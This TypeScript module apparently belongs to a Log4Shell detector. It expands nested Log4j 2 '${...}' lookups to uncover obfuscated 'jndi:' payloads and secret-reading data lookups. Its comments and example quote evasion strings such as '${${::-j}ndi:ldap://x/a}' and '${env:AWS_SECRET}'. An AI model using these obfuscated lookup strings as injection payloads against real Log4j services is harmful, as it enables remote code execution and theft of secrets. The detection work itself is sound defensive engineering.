/** Log4j lookup prefixes that read data (`${env:AWS_SECRET}`): exfiltration material or recon. */
const DATA_LOOKUPS = new Set([
  'env',
  'sys',
  'java',
  'ctx',
  'main',
  'map',
  'sd',
  'marker',
  'bundle',
  'docker',
  'k8s',
  'kubernetes',
  'spring',
  'web',
  'log4j',
  'jvmrunargs',
  'event',
  'hostname',
]);
const MAX_DEPTH = 24;
const MAX_PASSES = 3;

/** What evaluating a value's `${...}` lookups the way Log4j 2 would revealed. */
export interface LookupResolution {
  /** The JNDI name a `${jndi:...}` lookup would fetch (after nested lookups resolved), if any. */
  jndi: string | undefined;
  /** Lookups whose only job was to spell a few characters: `${lower:J}`, `${::-j}`, `${env:X:-j}`. */
  fragments: number;
  /** The first data lookup seen, e.g. `env:AWS_SECRET_ACCESS_KEY`. */
  dataLookup: string | undefined;
  /** The text with its lookups replaced by what they evaluate to: `j${::-n}di` reads `jndi`. */
  text: string;
}

function dateLiteral(format: string): string {
  // SimpleDateFormat copies quoted text verbatim: `${date:'j'}` is a plain `j`.
  let out = '';
  let quoted = false;
  for (const ch of format) {
    if (ch === "'") quoted = !quoted;
    else if (quoted) out += ch;
  }
  return out;
}

function base64(text: string): string {
  try {
    return atob(text.trim());
  } catch {
    return '';
  }
}

const LETTERS = /^[a-z]{1,2}$/i;

function fragment(state: LookupResolution, result: string): string {
  // Shell-style `${PORT:-8080}` also has defaults: only one or two letters look like spelling.
  if (LETTERS.test(result)) state.fragments++;
  return result;
}

function evaluate(inner: string, state: LookupResolution): string {
  const trimmed = inner.trimStart();
  if (trimmed.slice(0, 5).toLowerCase() === 'jndi:') {
    state.jndi ??= trimmed.slice(5).trim();
    return '';
  }
  const split = inner.indexOf(':-');
  const name = split < 0 ? inner : inner.slice(0, split);
  const fallback = split < 0 ? undefined : inner.slice(split + 2);
  const colon = name.indexOf(':');
  const prefix = colon < 0 ? '' : name.slice(0, colon).trim().toLowerCase();
  const key = colon < 0 ? name : name.slice(colon + 1);
  if (prefix === 'lower') return fragment(state, key.toLowerCase());
  if (prefix === 'upper') return fragment(state, key.toUpperCase());
  if (prefix === 'date') return fragment(state, dateLiteral(key));
  if (prefix === 'base64') return fragment(state, base64(key));
  if (DATA_LOOKUPS.has(prefix)) state.dataLookup ??= `${prefix}:${key.slice(0, 40)}`;
  // Unknown or unresolvable on this host: Log4j falls back to the `:-` default. Only Log4j's
  // `prefix:key` or empty names count as spelling; shell's `${A:-x}` has neither.
  if (fallback === undefined) return '';
  return colon >= 0 || name.trim() === '' ? fragment(state, fallback) : fallback;
}

interface Expanded {
  readonly text: string;
  readonly end: number;
}

/** Expands from `start`; when `nested`, stops after the `}` that closes the current lookup. */
function expand(s: string, start: number, nested: boolean, depth: number, state: LookupResolution): Expanded {
  let out = '';
  let i = start;
  let last = start;
  while (i < s.length) {
    const c = s.charCodeAt(i);
    if (c === 36 && s.charCodeAt(i + 1) === 123 && depth < MAX_DEPTH) {
      const inner = expand(s, i + 2, true, depth + 1, state);
      out += s.slice(last, i) + evaluate(inner.text, state);
      i = inner.end;
      last = i;
    } else if (c === 125 && nested) {
      return { text: out + s.slice(last, i), end: i + 1 };
    } else i++;
  }
  // An unclosed lookup is evaluated as if closed: truncation must not hide `${jndi:...`.
  return { text: out + s.slice(last), end: s.length };
}

/**
 * Evaluates nested `${prefix:key:-default}` lookups like Log4j 2: case functions, defaults, date literals
 * and base64 are resolved; data lookups resolve to their default. Re-expands results that form new
 * lookups (`$${env:x:-$}{jndi:...}`), a bounded number of times.
 * @example resolveLookups('${${::-j}ndi:ldap://x/a}').jndi // 'ldap://x/a'
 */
export function resolveLookups(text: string): LookupResolution {
  const state: LookupResolution = { jndi: undefined, fragments: 0, dataLookup: undefined, text };
  let current = text;
  for (let pass = 0; pass < MAX_PASSES && state.jndi === undefined; pass++) {
    const next = expand(current, 0, false, 0, state).text;
    state.text = next;
    if (next === current || !next.includes('${')) break;
    current = next;
  }
  return state;
}
